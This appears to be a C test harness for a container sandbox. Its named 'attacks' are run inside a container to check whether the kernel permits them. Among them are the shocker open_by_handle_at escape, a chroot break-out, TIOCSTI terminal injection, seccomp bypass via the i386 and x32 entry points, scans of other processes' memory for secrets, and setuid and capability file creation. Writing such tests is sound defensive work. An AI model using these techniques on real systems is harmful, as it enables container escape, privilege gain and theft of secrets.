/* Attacks on a container from inside: "attacks NAME [ARGUMENT ...]" tries one and says what came of it.
 *
 * It prints "done" when the kernel let it, the name of the error when not; an attack that can tell more prints that.
 * Tests compile it, statically, and put it into a container.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/bpf.h>
#include <linux/filter.h>
#include <linux/netlink.h>
#include <linux/perf_event.h>
#include <linux/rtnetlink.h>
#include <linux/sched.h>
#include <linux/seccomp.h>
#include <linux/userfaultfd.h>
#include <net/if.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static long failed(long result) {
    return result < 0 ? -errno : 0;
}

/* --- System calls ------------------------------------------------------------------------------------------------- */

/* call NUMBER [ARGUMENT ...]: any system call with numbers for arguments; prints its result. */
static long any_call(char **argv) {
    long words[7] = {0};
    for (int i = 0; i < 7 && argv[i]; i++)
        words[i] = strtol(argv[i], NULL, 0);
    return failed(syscall(words[0], words[1], words[2], words[3], words[4], words[5], words[6]));
}

static long io_uring(char **argv) {
    (void)argv;
    char parameters[256] = {0};
    return failed(syscall(SYS_io_uring_setup, 4, parameters));
}

static long fault_handler(char **argv) {
    (void)argv;
    return failed(syscall(SYS_userfaultfd, UFFD_USER_MODE_ONLY));
}

static long bpf_map(char **argv) {
    (void)argv;
    union bpf_attr map = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};
    return failed(syscall(SYS_bpf, BPF_MAP_CREATE, &map, sizeof map));
}

static long perf_event(char **argv) {
    (void)argv;
    struct perf_event_attr event = {.type = PERF_TYPE_SOFTWARE, .size = sizeof event, .config = PERF_COUNT_SW_TASK_CLOCK};
    event.exclude_kernel = event.exclude_hv = 1;
    return failed(syscall(SYS_perf_event_open, &event, 0, -1, -1, 0));
}

static long add_key(char **argv) {
    (void)argv;
    return failed(syscall(SYS_add_key, "user", "attack", "x", 1, -3)); /* KEY_SPEC_SESSION_KEYRING */
}

/* read_key NAME: find a key from the session keyring on, and print what it holds. */
static long read_key(char **argv) {
    char content[256] = {0};
    long key = syscall(SYS_request_key, "user", argv[0], NULL, 0);
    if (key < 0)
        return -errno;
    if (syscall(SYS_keyctl, 11, key, content, sizeof content - 1, 0) < 0) /* KEYCTL_READ */
        return -errno;
    return puts(content), 1;
}

static long namespaces_by_clone(char **argv) {
    long pid = syscall(SYS_clone, strtol(argv[0], NULL, 0) | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0)
        _exit(0);
    return failed(pid);
}

static long namespaces_by_clone3(char **argv) {
    struct clone_args args = {.flags = (uint64_t)strtol(argv[0], NULL, 0), .exit_signal = SIGCHLD};
    long pid = syscall(SYS_clone3, &args, sizeof args);
    if (pid == 0)
        _exit(0);
    return failed(pid);
}

static long namespaces_by_unshare(char **argv) {
    return failed(unshare((int)strtol(argv[0], NULL, 0)));
}

static long join(char **argv) {
    int at = open(argv[0], O_RDONLY | O_CLOEXEC);
    return at < 0 ? -errno : failed(setns(at, 0));
}

#if defined(__x86_64__)
/* getppid by the 32-bit entry: a filter that looks at numbers only takes 64 for another call. */
static long i386_entry(char **argv) {
    (void)argv;
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(64L) : "memory", "r8", "r9", "r10", "r11");
    return result < 0 ? result : 0;
}

static long x32_entry(char **argv) {
    (void)argv;
    return failed(syscall(0x40000000 + SYS_getppid));
}
#endif

#if defined(__x86_64__)
#define MAGIC 0x5ec3L

static long raw(long number, long a, long b, long c, long d, long e, long f) {
    long result;
    register long r10 __asm__("r10") = d, r8 __asm__("r8") = e, r9 __asm__("r9") = f;
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                     : "rcx", "r11", "memory");
    return result;
}

/* numbers ENTRY LAST: call every number by the entry "native", "int80" or "x32", and print what came of each.
 *
 * A second filter keeps a call that the first lets through from being made: without a tracer it ends in ENOSYS. That is
 * weaker than any error that the first gives, so that is what is seen.
 */
static long numbers(char **argv) {
    static char text[1 << 17];
    struct sock_filter filter[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[5])),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, MAGIC, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_TRACE),
    };
    struct sock_fprog program = {sizeof filter / sizeof *filter, filter};
    long last = atol(argv[1]), at = 0;
    int own = strcmp(argv[0], "native") == 0, x32 = strcmp(argv[0], "x32") == 0;
    for (long number = 0; number <= last; number++) {
        if (own && (number == 335 || number == 336))
            continue; /* uretprobe and uprobe pass every filter, and kill who calls them like this */
        int status = 0;
        pid_t child = own && number ? 0 : fork();
        if (child) {
            waitpid(child, &status, 0);
            if (own)
                return 1;
            at += sprintf(text + at, "%ld %d\n", number, WIFSIGNALED(status) ? WTERMSIG(status) : -WEXITSTATUS(status));
            continue;
        }
        if (!own || number == 0) {
            prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
            if (raw(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, (long)&program, 0, 0, MAGIC) < 0)
                abort();
        }
        long result = -1;
        if (own || x32)
            result = raw(number | (x32 ? 0x40000000 : 0), 0, 0, 0, 0, 0, 0);
        else
            __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(0), "c"(0), "d"(0), "S"(0), "D"(0) : "memory");
        if (!own)
            raw(SYS_exit_group, -result & 0xFF, 0, 0, 0, 0, MAGIC);
        at += sprintf(text + at, "%ld %ld\n", number, -result);
    }
    raw(SYS_write, 1, (long)text, at, 0, 0, MAGIC);
    raw(SYS_exit_group, 0, 0, 0, 0, 0, MAGIC);
    return 1;
}
#endif

/* --- Files and mounts --------------------------------------------------------------------------------------------- */

static long mount_tmpfs(char **argv) {
    return failed(mount("attack", argv[0], "tmpfs", 0, NULL));
}

static long mount_type(char **argv) {
    return failed(mount("attack", argv[0], argv[1], 0, argv[2] ? argv[2] : NULL));
}

static long remount_writable(char **argv) {
    return failed(mount(NULL, argv[0], NULL, MS_REMOUNT | MS_BIND, NULL));
}

static long unmount(char **argv) {
    return failed(umount2(argv[0], MNT_DETACH));
}

static long pivot(char **argv) {
    (void)argv;
    return failed(syscall(SYS_pivot_root, "/", "/"));
}

static long new_mount_api(char **argv) {
    (void)argv;
    return failed(syscall(SYS_fsopen, "tmpfs", 0));
}

static long clone_mount(char **argv) {
    return failed(syscall(SYS_open_tree, AT_FDCWD, argv[0], 1 /* OPEN_TREE_CLONE */));
}

static long make_device(char **argv) {
    return failed(mknod(argv[0], S_IFCHR | 0666, makedev(1, 3)));
}

static long read_file(char **argv) {
    char content[65536];
    int at = open(argv[0], O_RDONLY | O_NONBLOCK);
    if (at < 0)
        return -errno;
    ssize_t got = read(at, content, sizeof content);
    if (got < 0)
        return -errno;
    return got == 0 ? (puts("empty"), 1) : 0;
}

static long write_file(char **argv) {
    int at = open(argv[0], O_WRONLY);
    if (at < 0)
        return -errno;
    return failed(write(at, argv[1], strlen(argv[1])));
}

static long create_file(char **argv) {
    return failed(open(argv[0], O_WRONLY | O_CREAT | O_EXCL, 0644));
}

static long change_mode(char **argv) {
    return failed(chmod(argv[0], (mode_t)strtol(argv[1], NULL, 8)));
}

/* set-id CALL PATH MODE: give a file a mode by one system call, or the descriptor PATH by "descriptor". */
static long set_id(char **argv) {
    const char *name = argv[0], *path = argv[1];
    mode_t mode = (mode_t)strtol(argv[2], NULL, 8);
    if (strcmp(name, "chmod") == 0)
        return failed(chmod(path, mode));
    if (strcmp(name, "fchmod") == 0)
        return failed(fchmod(open(path, O_RDONLY), mode));
    if (strcmp(name, "fchmodat") == 0)
        return failed(syscall(SYS_fchmodat, AT_FDCWD, path, mode));
    if (strcmp(name, "fchmodat2") == 0)
        return failed(syscall(452, AT_FDCWD, path, mode, 0));
    if (strcmp(name, "descriptor") == 0)
        return failed(fchmod(atoi(path), mode));
    return -ENOSYS;
}

static long make_unnamed(const char *path, mode_t mode) {
    char link[64], directory[4096];
    snprintf(directory, sizeof directory, "%s", path);
    *strrchr(directory, '/') = 0;
    int file = (int)syscall(SYS_openat, AT_FDCWD, directory, O_TMPFILE | O_WRONLY, mode);
    if (file < 0)
        return -errno;
    snprintf(link, sizeof link, "/proc/self/fd/%d", file);
    return failed(linkat(AT_FDCWD, link, AT_FDCWD, path, AT_SYMLINK_FOLLOW));
}

/* make-set-id CALL PATH MODE: make a file, or a directory, of a mode by one system call. */
static long make_set_id(char **argv) {
    const char *name = argv[0], *path = argv[1];
    mode_t mode = (mode_t)strtol(argv[2], NULL, 8);
    umask(0);
    unlink(path);
#if defined(__x86_64__)
    if (strcmp(name, "open") == 0)
        return failed(syscall(SYS_open, path, O_CREAT | O_WRONLY, mode));
    if (strcmp(name, "creat") == 0)
        return failed(syscall(SYS_creat, path, mode));
    if (strcmp(name, "mknod") == 0)
        return failed(syscall(SYS_mknod, path, S_IFREG | mode, 0));
    if (strcmp(name, "mkdir") == 0)
        return failed(syscall(SYS_mkdir, path, mode));
#endif
    if (strcmp(name, "openat") == 0)
        return failed(syscall(SYS_openat, AT_FDCWD, path, O_CREAT | O_WRONLY, mode));
    if (strcmp(name, "openat-wide") == 0) /* bits that the kernel does not look at */
        return failed(syscall(SYS_openat, AT_FDCWD, path, O_CREAT | O_WRONLY | 1L << 40, mode | 1L << 40));
    if (strcmp(name, "openat2") == 0) {
        unsigned long long how[3] = {O_CREAT | O_WRONLY, mode, 0};
        return failed(syscall(SYS_openat2, AT_FDCWD, path, how, sizeof how));
    }
    if (strcmp(name, "tmpfile") == 0)
        return make_unnamed(path, mode);
    if (strcmp(name, "mknodat") == 0)
        return failed(syscall(SYS_mknodat, AT_FDCWD, path, S_IFREG | mode, 0));
    if (strcmp(name, "mkdirat") == 0)
        return failed(syscall(SYS_mkdirat, AT_FDCWD, path, mode));
    return -ENOSYS;
}

/* set-capability CALL PATH: let a file give CAP_SETUID to whoever executes it. */
static long set_capability(char **argv) {
    uint32_t caps[5] = {0x02000001, 1 << 7, 0, 0, 0}; /* VFS_CAP_REVISION_2, effective */
    const char *name = "security.capability", *path = argv[1];
    struct {
        uint64_t value;
        uint32_t size, flags;
    } arguments = {(uint64_t)(uintptr_t)caps, sizeof caps, 0};
    if (strcmp(argv[0], "setxattr") == 0)
        return failed(syscall(SYS_setxattr, path, name, caps, sizeof caps, 0));
    if (strcmp(argv[0], "lsetxattr") == 0)
        return failed(syscall(SYS_lsetxattr, path, name, caps, sizeof caps, 0));
    if (strcmp(argv[0], "fsetxattr") == 0)
        return failed(syscall(SYS_fsetxattr, open(path, O_RDONLY), name, caps, sizeof caps, 0));
    return failed(syscall(463 /* setxattrat */, AT_FDCWD, path, 0, name, &arguments, sizeof arguments));
}

/* shocker: open the root of the filesystem below a path by its inode number (CVE-2014-3519's way out of Docker). */
static long shocker(char **argv) {
    struct {
        struct file_handle head;
        unsigned char space[128];
    } handle = {.head.handle_bytes = 128};
    int id;
    int at = open(argv[0], O_RDONLY);
    if (at < 0 || name_to_handle_at(AT_FDCWD, argv[0], &handle.head, &id, 0) < 0)
        return -errno;
    return failed(open_by_handle_at(at, &handle.head, O_RDONLY));
}

/* A chroot that a process has left behind: the way out where CAP_SYS_CHROOT is. */
static long break_out(char **argv) {
    mkdir("/tmp/jail", 0755);
    int at = open("/", O_RDONLY | O_DIRECTORY);
    if (chroot("/tmp/jail") < 0)
        return -errno;
    if (fchdir(at) < 0)
        return -errno;
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            return -errno;
    if (chroot(".") < 0)
        return -errno;
    return access(argv[0], F_OK) < 0 ? -errno : 0;
}

/* --- Processes and users ------------------------------------------------------------------------------------------ */

static long attach(char **argv) {
    pid_t pid = (pid_t)atoi(argv[0]);
    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
        return -errno;
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
    return 0;
}

static long read_memory(char **argv) {
    char content[16];
    struct iovec here = {content, sizeof content}, there = {(void *)(uintptr_t)strtoull(argv[1], NULL, 0), sizeof content};
    return failed(process_vm_readv((pid_t)atoi(argv[0]), &here, 1, &there, 1, 0));
}

static long signal_process(char **argv) {
    return failed(kill((pid_t)atoi(argv[0]), atoi(argv[1])));
}

static long who(char **argv) {
    (void)argv;
    gid_t groups[64];
    int count = getgroups(64, groups);
    printf("%d %d %d %d", getuid(), geteuid(), getgid(), getegid());
    for (int i = 0; i < count; i++)
        printf(" %d", groups[i]);
    return putchar('\n'), 1;
}

static long drop_groups(char **argv) {
    (void)argv;
    return failed(setgroups(0, NULL));
}

static long become(char **argv) {
    return failed(setuid((uid_t)strtoul(argv[0], NULL, 10)));
}

/* forks LIMIT: how many children can be had at once, up to a limit. */
static long forks(char **argv) {
    int limit = atoi(argv[0]), made = 0;
    for (; made < limit; made++) {
        pid_t pid = fork();
        if (pid < 0)
            break;
        if (pid == 0) {
            pause();
            _exit(0);
        }
    }
    printf("%d %s\n", made, made < limit ? strerrorname_np(errno) : "all");
    fflush(stdout);
    signal(SIGTERM, SIG_IGN);
    kill(0, SIGTERM);
    return 1;
}

/* opens LIMIT: how many descriptors can be had, having raised the limit as far as it goes. */
static long opens(char **argv) {
    int limit = atoi(argv[0]), made = 0;
    struct rlimit rlimit;
    getrlimit(RLIMIT_NOFILE, &rlimit);
    rlimit.rlim_cur = rlimit.rlim_max;
    setrlimit(RLIMIT_NOFILE, &rlimit);
    while (made < limit && open("/dev/null", O_RDONLY) >= 0)
        made++;
    return printf("%d %s\n", made, made < limit ? strerrorname_np(errno) : "all"), 1;
}

static long raise_limit(char **argv) {
    (void)argv;
    struct rlimit rlimit;
    getrlimit(RLIMIT_CORE, &rlimit);
    rlimit.rlim_cur = rlimit.rlim_max = RLIM_INFINITY;
    return failed(setrlimit(RLIMIT_CORE, &rlimit));
}

/* eat MIB: touch so much memory. */
static long eat(char **argv) {
    size_t bytes = (size_t)atoi(argv[0]) << 20;
    char *memory = mmap(NULL, bytes, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (memory == MAP_FAILED)
        return -errno;
    for (size_t at = 0; at < bytes; at += 4096)
        memory[at] = 1;
    return 0;
}

static long crash(char **argv) {
    (void)argv;
    abort();
}

/* secret HEX: does any process hold these bytes in memory that can be read from here? For some seconds. */
static long secret(char **argv) {
    size_t length = strlen(argv[0]) / 2, found = 0, opened = 0;
    unsigned char wanted[64];
    char path[64], line[256];
    static char content[1 << 20];
    for (size_t i = 0; i < length && i < sizeof wanted; i++)
        sscanf(argv[0] + 2 * i, "%2hhx", &wanted[i]);
    for (time_t end = time(NULL) + atoi(argv[1]); time(NULL) < end && !found;)
        for (int pid = 1; pid < 3000 && !found; pid++) {
            snprintf(path, sizeof path, "/proc/%d/maps", pid);
            FILE *maps = pid == getpid() ? NULL : fopen(path, "r");
            if (!maps)
                continue;
            snprintf(path, sizeof path, "/proc/%d/mem", pid);
            int memory = open(path, O_RDONLY);
            opened += memory >= 0;
            unsigned long from, to;
            while (memory >= 0 && fgets(line, sizeof line, maps) && sscanf(line, "%lx-%lx rw", &from, &to) == 2)
                for (; from < to; from += sizeof content - 64) {
                    size_t room = to - from < sizeof content ? to - from : sizeof content;
                    ssize_t got = pread(memory, content, room, (off_t)from);
                    if (got > 0 && memmem(content, (size_t)got, wanted, length))
                        found++;
                }
            if (memory >= 0)
                close(memory);
            fclose(maps);
        }
    return puts(found ? "found" : opened ? "looked" : "blind"), 1;
}

/* --- Network and inter-process communication ---------------------------------------------------------------------- */

static long abstract_socket(char **argv) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strncpy(address.sun_path + 1, argv[0], sizeof address.sun_path - 2);
    int at = socket(AF_UNIX, SOCK_STREAM, 0);
    return failed(connect(at, (void *)&address, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(argv[0]))));
}

static long make_socket(char **argv) {
    return failed(socket(atoi(argv[0]), atoi(argv[1]), argv[2] ? atoi(argv[2]) : 0));
}

static long connect_tcp(char **argv) {
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[0]))};
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    return failed(connect(socket(AF_INET, SOCK_STREAM, 0), (void *)&address, sizeof address));
}

/* Bring lo down by netlink: what an administrator of the network can do. */
static long set_link(char **argv) {
    (void)argv;
    struct {
        struct nlmsghdr head;
        struct ifinfomsg link;
    } request = {{sizeof request, RTM_NEWLINK, NLM_F_REQUEST | NLM_F_ACK, 1, 0}, {.ifi_index = 1, .ifi_change = IFF_UP}};
    struct {
        struct nlmsghdr head;
        struct nlmsgerr error;
        char rest[256];
    } answer;
    int at = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
    if (at < 0 || send(at, &request, sizeof request, 0) < 0 || recv(at, &answer, sizeof answer, 0) < 0)
        return -errno;
    return answer.error.error;
}

static long interfaces(char **argv) {
    (void)argv;
    struct if_nameindex *all = if_nameindex();
    if (!all)
        return -errno;
    for (struct if_nameindex *each = all; each->if_index; each++)
        printf("%s ", each->if_name);
    return putchar('\n'), 1;
}

static long find_shared_memory(char **argv) {
    return failed(shmget((key_t)strtol(argv[0], NULL, 0), 0, 0));
}

/* push_input CHARACTER: put it into the terminal at stdin as if it had been typed. */
static long push_input(char **argv) {
    return failed(ioctl(0, TIOCSTI, argv[0]));
}

/* take-terminal TEXT: make the terminal on stdin the controlling one of the own session, then push. */
static long take_terminal(char **argv) {
    return ioctl(0, TIOCSCTTY, 0) < 0 ? -errno : push_input(argv);
}

static long push_linux(char **argv) {
    (void)argv;
    char paste[16] = {3};
    return failed(ioctl(0, TIOCLINUX, paste));
}

static long push_input_wide(char **argv) {
    return failed(syscall(SYS_ioctl, 0L, (1L << 32) | TIOCSTI, argv[0]));
}

/* --- Threads ------------------------------------------------------------------------------------------------------ */

static void *write_in_thread(void *argv) {
    return (void *)write_file(argv);
}

static long write_from_thread(char **argv) {
    pthread_t thread;
    void *result;
    if (pthread_create(&thread, NULL, write_in_thread, argv) != 0)
        return -EAGAIN;
    pthread_join(thread, &result);
    return (long)result;
}

static long nested(char **argv);

static const struct {
    const char *name;
    long (*run)(char **argv);
} attacks[] = {
    {"abstract-socket", abstract_socket},
    {"add-key", add_key},
    {"attach", attach},
    {"become", become},
    {"bpf-map", bpf_map},
    {"break-out", break_out},
    {"call", any_call},
    {"change-mode", change_mode},
    {"clone", namespaces_by_clone},
    {"clone-mount", clone_mount},
    {"clone3", namespaces_by_clone3},
    {"connect-tcp", connect_tcp},
    {"crash", crash},
    {"create-file", create_file},
    {"drop-groups", drop_groups},
    {"eat", eat},
    {"find-shared-memory", find_shared_memory},
    {"forks", forks},
#if defined(__x86_64__)
    {"i386-entry", i386_entry},
    {"numbers", numbers},
    {"x32-entry", x32_entry},
#endif
    {"interfaces", interfaces},
    {"io-uring", io_uring},
    {"join", join},
    {"make-device", make_device},
    {"make-set-id", make_set_id},
    {"make-socket", make_socket},
    {"mount-tmpfs", mount_tmpfs},
    {"mount-type", mount_type},
    {"nested", nested},
    {"new-mount-api", new_mount_api},
    {"opens", opens},
    {"perf-event", perf_event},
    {"pivot", pivot},
    {"push-input", push_input},
    {"push-input-wide", push_input_wide},
    {"push-linux", push_linux},
    {"raise-limit", raise_limit},
    {"read-file", read_file},
    {"read-key", read_key},
    {"read-memory", read_memory},
    {"remount-writable", remount_writable},
    {"secret", secret},
    {"set-capability", set_capability},
    {"set-id", set_id},
    {"set-link", set_link},
    {"shocker", shocker},
    {"signal", signal_process},
    {"take-terminal", take_terminal},
    {"unmount", unmount},
    {"unshare", namespaces_by_unshare},
    {"userfaultfd", fault_handler},
    {"who", who},
    {"write-file", write_file},
    {"write-from-thread", write_from_thread},
};

#define NO_ATTACK 2

static long try(char **argv) {
    for (size_t i = 0; argv[0] && i < sizeof attacks / sizeof *attacks; i++)
        if (strcmp(attacks[i].name, argv[0]) == 0)
            return attacks[i].run(argv + 1);
    return NO_ATTACK;
}

/* nested ATTACK [ARGUMENT ...]: as root with all capabilities of a user and mount namespace made here. */
static long nested(char **argv) {
    return unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0 ? -errno : try(argv);
}

int main(int argc, char **argv) {
    (void)argc;
    long result = try(argv + 1);
    if (result == NO_ATTACK)
        fprintf(stderr, "no such attack\n");
    else if (result <= 0)
        puts(result == 0 ? "done" : strerrorname_np((int)-result));
    return result == NO_ATTACK ? 99 : 0;
}
